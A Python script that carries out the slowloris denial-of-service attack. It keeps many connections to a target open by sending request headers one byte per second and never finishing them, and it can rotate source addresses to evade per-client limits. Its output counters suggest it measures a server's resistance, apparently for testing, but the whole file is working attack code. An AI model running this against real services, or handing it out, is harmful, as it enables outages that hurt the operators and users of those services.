#!/usr/bin/env python3
# slowloris.py HOST PORT CONNECTIONS SECONDS [SOURCES]: the slowloris
# attack, from each address of SOURCES (a comma-separated list) in turn
# when given.  Keeps
# CONNECTIONS connections to HOST:PORT, each sending a request's headers
# one byte a second and never finishing them; a connection the server
# closes is opened again at once.  After SECONDS it prints
#
#   most_open N        the most connections open at once for 1 s or more
#   deadline_closed N  connections the server closed after 2 s or more
#   refused N          connections closed within 2 s (a per-client limit)
import select
import socket
import sys
import time

HOST, PORT, N, SECONDS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
SOURCES = sys.argv[5].split(",") if len(sys.argv) > 5 else []
opened_count = 0
conns = {}  # socket -> opened at
most_open = deadline_closed = refused = 0
end = time.monotonic() + SECONDS


def open_one():
    global opened_count
    s = socket.socket()
    s.setblocking(False)
    if SOURCES:
        s.bind((SOURCES[opened_count % len(SOURCES)], 0))
        opened_count += 1
    try:
        s.connect((HOST, PORT))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return
    conns[s] = [time.monotonic(), False]


def closed(s):
    global deadline_closed, refused
    opened = conns.pop(s)[0]
    s.close()
    if time.monotonic() - opened >= 2:
        deadline_closed += 1
    else:
        refused += 1


for _ in range(N):
    open_one()
next_tick = time.monotonic()
while time.monotonic() < end:
    now = time.monotonic()
    if now >= next_tick:
        next_tick = now + 1
        for s, st in list(conns.items()):
            try:
                if not st[1]:
                    s.send(b"POST /api/jobs HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                    st[1] = True
                else:
                    s.send(b"a")
            except BlockingIOError:
                pass
            except OSError:
                closed(s)
        most_open = max(most_open, sum(1 for t, _ in conns.values() if now - t >= 1))
        while len(conns) < N:
            open_one()
    r, _, _ = select.select(list(conns), [], [], 0.1)
    for s in r:
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if not data:
            closed(s)
print("most_open %d" % most_open)
print("deadline_closed %d" % deadline_closed)
print("refused %d" % refused)
